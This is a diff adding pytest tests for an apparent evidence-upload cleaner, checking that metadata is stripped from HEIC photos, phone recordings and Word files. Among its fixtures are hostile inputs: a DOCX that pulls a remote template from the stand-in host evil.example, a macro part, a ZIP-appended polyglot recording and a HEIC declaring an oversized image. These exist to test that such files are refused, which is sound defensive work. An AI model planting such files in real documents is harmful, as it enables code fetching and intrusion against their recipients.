@@ -1,0 +1,318 @@
+"""The evidence officers actually have: HEIC photos, screen recordings, voice notes, Word files.
+
+Each file is made here, for real (HEIC by libheif, MP4/MOV/M4A by FFmpeg, DOCX as Word writes
+it), carrying CANARY metadata of the kind phones and Word add; the cleaned copy must carry none
+of it and still hold the evidence.
+"""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from fractions import Fraction
+
+import av
+import pillow_heif
+import pytest
+from PIL import Image
+
+from intake.attachments import AttachmentRejected, clean_upload
+from tests.fixtures.hostile.make import gps_jpeg
+
+# --- makers ------------------------------------------------------------------------------------
+
+
+def heic_photo() -> bytes:
+    with Image.open(io.BytesIO(gps_jpeg((64, 48)))) as photo:
+        exif = photo.getexif().tobytes()
+        heif = pillow_heif.from_pillow(photo.convert("RGB"))
+    out = io.BytesIO()
+    heif.save(out, quality=80, exif=exif, xmp=b"<x:xmpmeta>CANARYXMP</x:xmpmeta>")
+    data = out.getvalue()
+    assert data[4:12] == b"ftypheic" and b"CANARYGPS" in data and b"CANARYXMP" in data
+    return data
+
+
+PHONE_METADATA = {
+    "title": "CANARYTITLE",
+    "artist": "CANARYARTIST",
+    "comment": "CANARYCOMMENT",
+    "location": "+51.5072-000.1275/",
+    "creation_time": "2026-11-03T09:41:27.000000Z",
+    "encoder": "CANARYDEVICE",
+}
+
+
+def recording(*, video: bool, container: str) -> bytes:
+    """A second of silence (and a red picture for video), with a phone's metadata."""
+    out = io.BytesIO()
+    with av.open(out, "w", format=container) as output:
+        output.metadata.update(PHONE_METADATA)
+        if video:
+            picture = output.add_stream("mpeg4", rate=10)
+            picture.width, picture.height, picture.pix_fmt = 64, 48, "yuv420p"
+            picture.metadata["handler_name"] = "CANARYHANDLER"
+        sound = output.add_stream("aac", rate=16000)
+        sound.metadata["handler_name"] = "CANARYSOUNDHANDLER"
+        if video:
+            for index in range(10):
+                frame = av.VideoFrame.from_image(Image.new("RGB", (64, 48), (220, 20, 20)))
+                frame.pts, frame.time_base = index, Fraction(1, 10)
+                output.mux(picture.encode(frame))
+            output.mux(picture.encode(None))
+        for index in range(16):
+            samples = av.AudioFrame(format="fltp", layout="mono", samples=1024)
+            samples.planes[0].update(bytes(4096))
+            samples.sample_rate, samples.pts = 16000, index * 1024
+            output.mux(sound.encode(samples))
+        output.mux(sound.encode(None))
+    data = out.getvalue()
+    assert b"CANARY" in data
+    return data
+
+
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+REL = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+def word_document(**extra_parts: bytes | str) -> bytes:
+    """A DOCX as Word leaves it: author, company, comments, tracked changes, a photo."""
+    parts: dict[str, bytes | str] = {
+        "[Content_Types].xml": (
+            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+            '<Default Extension="xml" ContentType="application/xml"/>'
+            '<Default Extension="jpeg" ContentType="image/jpeg"/>'
+            '<Override PartName="/word/document.xml" ContentType="application/'
+            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+        ),
+        "_rels/.rels": (
+            f'<Relationships xmlns="{REL}"><Relationship Id="rId1" Type="{R}/officeDocument" '
+            'Target="word/document.xml"/></Relationships>'
+        ),
+        "word/_rels/document.xml.rels": (
+            f'<Relationships xmlns="{REL}">'
+            f'<Relationship Id="rId2" Type="{R}/image" Target="media/image1.jpeg"/>'
+            f'<Relationship Id="rId3" Type="{R}/hyperlink" Target="https://www.gov.uk/" '
+            'TargetMode="External"/></Relationships>'
+        ),
+        "word/document.xml": (
+            f'<w:document xmlns:w="{W}"><w:body>'
+            '<w:p w:rsidR="00CA7A11" w:rsidRDefault="00CA7A11"><w:r><w:t>The sergeant said it '
+            "in front of the team.</w:t></w:r></w:p>"
+            '<w:p><w:ins w:id="1" w:author="CANARYREVISER" w:date="2026-11-03T09:41:00Z">'
+            "<w:r><w:t>Added later.</w:t></w:r></w:ins>"
+            '<w:commentReference w:id="0"/></w:p></w:body></w:document>'
+        ),
+        "word/comments.xml": (
+            f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="CANARYCOMMENTER" '
+            'w:initials="CC"><w:p><w:r><w:t>CANARYCOMMENTTEXT</w:t></w:r></w:p></w:comment>'
+            "</w:comments>"
+        ),
+        "word/settings.xml": (
+            f'<w:settings xmlns:w="{W}"><w:rsids><w:rsidRoot w:val="CA7A11"/></w:rsids>'
+            "</w:settings>"
+        ),
+        "word/media/image1.jpeg": gps_jpeg(),
+        "docProps/core.xml": (
+            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
+            'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
+            "<dc:creator>CANARYAUTHOR</dc:creator><cp:lastModifiedBy>CANARYEDITOR"
+            "</cp:lastModifiedBy></cp:coreProperties>"
+        ),
+        "docProps/app.xml": "<Properties><Company>CANARYFORCE</Company></Properties>",
+        "docProps/custom.xml": "<Properties><property>CANARYSHAREPOINT</property></Properties>",
+        "customXml/item1.xml": "<metadata>CANARYCUSTOMXML</metadata>",
+    }
+    parts.update(extra_parts)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, body in parts.items():
+            archive.writestr(name, body)
+    return out.getvalue()
+
+
+def unpacked(data: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return {entry.filename: archive.read(entry) for entry in archive.infolist()}
+
+
+# --- HEIC --------------------------------------------------------------------------------------
+
+
+def test_a_heic_photo_is_converted_to_jpeg_without_its_gps_camera_or_xmp() -> None:
+    cleaned = clean_upload("IMG_0412.HEIC", heic_photo())
+
+    assert (cleaned.filename, cleaned.media_type) == ("IMG_0412.jpg", "image/jpeg")
+    assert cleaned.notice == "Your photo was converted to JPEG and saved as ‘IMG_0412.jpg’."
+    assert b"CANARY" not in cleaned.data
+    with Image.open(io.BytesIO(cleaned.data)) as photo:
+        assert photo.format == "JPEG" and photo.size == (64, 48)
+        assert not photo.getexif() and "xmp" not in photo.info
+        red, green, _ = photo.getpixel((32, 24))
+        assert red > 180 and green < 80
+
+
+def test_a_kept_heic_photo_is_unchanged_and_warns_what_it_shows() -> None:
+    original = heic_photo()
+    kept = clean_upload("IMG_0412.HEIC", original, keep_original=True)
+    assert kept.data == original and kept.media_type == "image/heic"
+    assert "the place and time the photo was taken" in kept.cautions[0]
+
+
+def test_a_heic_photo_over_the_pixel_limit_is_refused() -> None:
+    # A small photo whose "ispe" (image size) box declares 6400 × 4000 pixels, with its
+    # "clap" (crop) box disabled: the size is read from there before anything is decoded.
+    photo = bytearray(heic_photo())
+    size_box = photo.index(b"ispe") + 8  # after the box type and its version and flags
+    photo[size_box : size_box + 8] = (6400).to_bytes(4, "big") + (4000).to_bytes(4, "big")
+    crop_box = photo.index(b"clap")
+    photo[crop_box : crop_box + 4] = b"free"
+    with pytest.raises(AttachmentRejected) as refused:
+        clean_upload("huge.heic", bytes(photo))
+    assert "too large an image to process" in refused.value.message
+
+
+# --- recordings --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "video", "container", "media_type", "saved_as"),
+    [
+        ("ScreenRecording.mp4", True, "mp4", "video/mp4", "ScreenRecording.mp4"),
+        ("IMG_0413.MOV", True, "mov", "video/mp4", "IMG_0413.mp4"),
+        ("Voice note.m4a", False, "ipod", "audio/mp4", "Voice note.m4a"),
+    ],
+)
+def test_a_recording_keeps_its_sound_and_picture_but_no_metadata(
+    name: str, video: bool, container: str, media_type: str, saved_as: str
+) -> None:
+    original = recording(video=video, container=container)
+
+    cleaned = clean_upload(name, original)
+
+    assert (cleaned.filename, cleaned.media_type) == (saved_as, media_type)
+    assert b"CANARY" not in cleaned.data
+    assert b"+51.5072" not in cleaned.data and b"Lavf" not in cleaned.data
+    with av.open(io.BytesIO(cleaned.data)) as result, av.open(io.BytesIO(original)) as source:
+        assert "creation_time" not in result.metadata and "location" not in result.metadata
+        assert [s.type for s in result.streams] == [s.type for s in source.streams]
+        for stream in result.streams:
+            assert "creation_time" not in stream.metadata
+            assert "handler_name" not in stream.metadata or "CANARY" not in str(
+                stream.metadata["handler_name"]
+            )
+        assert sum(1 for _ in result.demux(result.streams.audio[0])) >= 16
+
+
+def test_the_recording_time_is_not_kept_in_the_movie_header() -> None:
+    cleaned = clean_upload("clip.mov", recording(video=True, container="mov"))
+    with av.open(io.BytesIO(cleaned.data)) as result:
+        assert "creation_time" not in result.metadata
+    header = cleaned.data.index(b"mvhd")
+    # version 0: four bytes of flags, then creation and modification times, both zero
+    assert cleaned.data[header + 8 : header + 16] == bytes(8)
+
+
+def test_a_kept_recording_warns_what_it_carries() -> None:
+    original = recording(video=False, container="ipod")
+    kept = clean_upload("Voice note.m4a", original, keep_original=True)
+    assert kept.data == original and kept.media_type == "audio/mp4"
+    assert kept.cautions == ("the place and time it was recorded and the phone or camera used",)
+
+
+def test_a_kept_recording_with_a_zip_appended_is_refused() -> None:
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as hidden:
+        hidden.writestr("payload.txt", "x")
+    polyglot = recording(video=False, container="ipod") + archive.getvalue()
+    with pytest.raises(AttachmentRejected) as refused:
+        clean_upload("note.m4a", polyglot, keep_original=True)
+    assert "has another file hidden inside this recording" in refused.value.message
+
+
+def test_a_damaged_recording_gets_a_clear_error() -> None:
+    broken = recording(video=True, container="mp4")[:200]
+    with pytest.raises(AttachmentRejected) as refused:
+        clean_upload("clip.mp4", broken)
+    assert refused.value.message.startswith(
+        "‘clip.mp4’ looks like a video or sound recording but is damaged"
+    )
+
+
+# --- Word --------------------------------------------------------------------------------------
+
+
+def test_a_word_document_keeps_its_text_but_no_author_comment_revision_or_photo_metadata() -> None:
+    cleaned = clean_upload("statement.docx", word_document())
+
+    assert cleaned.filename == "statement.docx"
+    assert cleaned.media_type.endswith("wordprocessingml.document")
+    parts = unpacked(cleaned.data)
+    for name, body in parts.items():
+        assert b"CANARY" not in body, name
+        assert b"rsid" not in body and b"w:date=" not in body, name
+    assert b"The sergeant said it in front of the team." in parts["word/document.xml"]
+    assert b"Added later." in parts["word/document.xml"]
+    with Image.open(io.BytesIO(parts["word/media/image1.jpeg"])) as photo:
+        assert not photo.getexif() and "comment" not in photo.info
+    with zipfile.ZipFile(io.BytesIO(cleaned.data)) as archive:
+        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        {"word/vbaProject.bin": b"macro"},
+        {
+            "word/_rels/settings.xml.rels": (
+                f'<Relationships xmlns="{REL}"><Relationship Id="rId1" '
+                f'Type="{R}/attachedTemplate" Target="https://evil.example/t.dotm" '
+                'TargetMode="External"/></Relationships>'
+            )
+        },
+    ],
+    ids=["macros", "outside template"],
+)
+@pytest.mark.parametrize("keep_original", [False, True])
+def test_a_word_document_that_would_run_or_fetch_something_is_refused(
+    extra: dict[str, str | bytes], keep_original: bool
+) -> None:
+    with pytest.raises(AttachmentRejected) as refused:
+        clean_upload("rota.docx", word_document(**extra), keep_original=keep_original)
+    assert "contains macros, controls or links to outside files" in refused.value.message
+
+
+def test_a_kept_word_document_warns_about_author_and_comments() -> None:
+    original = word_document()
+    kept = clean_upload("statement.docx", original, keep_original=True)
+    assert kept.data == original
+    assert kept.cautions == ("the author’s name, comments, tracked changes and editing times",)
+
+
+# --- anything else -----------------------------------------------------------------------------
+
+
+def test_other_kinds_get_an_error_that_lists_what_is_accepted() -> None:
+    out = io.BytesIO()
+    Image.new("RGB", (8, 8)).save(out, "WEBP")
+    with pytest.raises(AttachmentRejected) as refused:
+        clean_upload("sticker.webp", out.getvalue())
+    assert "(it looks like a WebP image)" in refused.value.message
+    assert refused.value.message.endswith(
+        "Candour accepts photos (JPEG, PNG or HEIC), PDF and Word (DOCX) documents, videos and "
+        "screen recordings (MP4 or MOV), voice notes (M4A) and plain text files."
+    )
+
+
+def test_a_text_file_named_docx_is_saved_as_txt_and_the_reporter_is_told() -> None:
+    cleaned = clean_upload("statement.docx", b"What happened on the night shift.")
+    assert cleaned.filename == "statement.txt"
+    assert cleaned.notice == (
+        "‘statement.docx’ is a plain text file, so it was saved as ‘statement.txt’."
+    )
+
+
+def test_a_file_whose_name_matches_its_kind_gets_no_notice() -> None:
+    assert clean_upload("statement.txt", b"words").notice is None
+    assert clean_upload("photo.JPEG", gps_jpeg()).notice is None
